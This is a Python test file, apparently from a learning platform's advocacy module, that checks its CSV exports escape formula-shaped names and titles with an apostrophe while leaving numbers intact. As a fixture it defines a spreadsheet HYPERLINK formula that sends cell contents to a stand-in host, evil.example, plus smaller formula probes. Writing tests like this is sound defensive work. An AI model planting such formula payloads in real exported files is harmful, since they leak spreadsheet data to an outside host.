"""Every advocacy CSV neutralises formula-shaped text (OWASP CSV injection) and keeps numbers."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

from lms.accounts.models import Role
from lms.advocacy import csvimport, services
from lms.courses.cohorts.services import create_cohort, enrol
from lms.courses.programs.services import create_blank_program
from lms.extensions import db
from tests.advocacy.helpers import consent

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def rows(response) -> list[dict[str, str]]:
    """The downloaded CSV's rows (UTF-8 with a BOM, as Excel wants it)."""
    assert response.status_code == 200 and response.mimetype == "text/csv"
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def world(create_org, create_user):
    org = create_org(slug="inj")
    hr = create_user(Role.HR, org=org)
    learner = create_user(org=org, name=EVIL, email="evil@inj.example")
    consent(org, learner)
    campaign = services.create_campaign(organization=org, kind="campaign", title="=1+1",
                                        target_value=10)
    item = services.add_content_item(campaign=campaign, title="@SUM(1,2)",
                                     url="https://acme.example/item")
    db.session.commit()
    when = (date.today() - timedelta(days=3)).isoformat()
    services.record_event(organization=org, user=learner, source="manual", data={
        "url": "https://www.linkedin.com/feed/update/77", "network": "linkedin",
        "kind": "share", "occurred_at": when, "clicks": "5", "campaign_id": str(campaign.id),
        "content_item_id": str(item.id)})
    db.session.commit()
    return org, hr, learner


def test_dashboard_exports_neutralise_names_titles_and_keep_numbers(client, create_org,
                                                                     create_user, login):
    org, hr, _learner = world(create_org, create_user)
    login(hr)
    board = rows(client.get(f"/o/{org.slug}/advocacy?export=leaderboard"))
    assert board[0]["name"] == "'" + EVIL
    assert board[0]["clicks"] == "5"
    campaigns = rows(client.get(f"/o/{org.slug}/advocacy?export=campaigns"))
    assert campaigns[0]["campaign"] == "'=1+1" and campaigns[0]["target_value"] == "10"
    items = rows(client.get(f"/o/{org.slug}/advocacy?export=content"))
    assert [r["content_item"] for r in items] == ["'@SUM(1,2)"]


def test_impact_exports_neutralise_cohort_and_learner_names(client, create_org, create_user,
                                                            login):
    org, hr, learner = world(create_org, create_user)
    program = create_blank_program(organization=org, title="P", language="fr")
    cohort = create_cohort(program=program, name="-2+3 cohort", pilot=True,
                           starts_on=date.today() - timedelta(days=10))
    enrol(cohort=cohort, membership=learner.memberships[0])
    db.session.commit()
    login(hr)
    cohorts = rows(client.get(f"/o/{org.slug}/advocacy/impact?export=cohorts"))
    assert {r["cohort"] for r in cohorts} == {"'-2+3 cohort"}
    # A negative change stays a number: "-100.0", never "'-100.0".
    assert all(not r["change_percent"].startswith("'") for r in cohorts)
    learners = rows(client.get(
        f"/o/{org.slug}/advocacy/impact?cohort={cohort.id}&export=learners"))
    assert learners[0]["learner"] == "'" + EVIL


def test_rejected_rows_file_neutralises_what_the_file_held(create_org, create_user):
    org = create_org(slug="rej")
    learner = create_user(org=org, email="lea@rej.example")
    consent(org, learner)
    data = ("email,network,kind,url,date,clicks\n"
            "lea@rej.example,linkedin,share,https://acme.example/1,2026-11-01,3\n"
            f'lea@rej.example,linkedin,share,"{EVIL.replace(chr(34), chr(34) * 2)}",'
            "2026-11-01,-4\n")
    result = csvimport.import_activity(organization=org, data=data.encode(),
                                       preset_name="generic", skip_invalid=True)
    assert result.rejected_csv is not None
    rejected = list(csv.DictReader(io.StringIO(result.rejected_csv.decode())))
    assert rejected[0]["url"] == "'" + EVIL
    assert rejected[0]["clicks"] == "-4"  # a number, left as it was
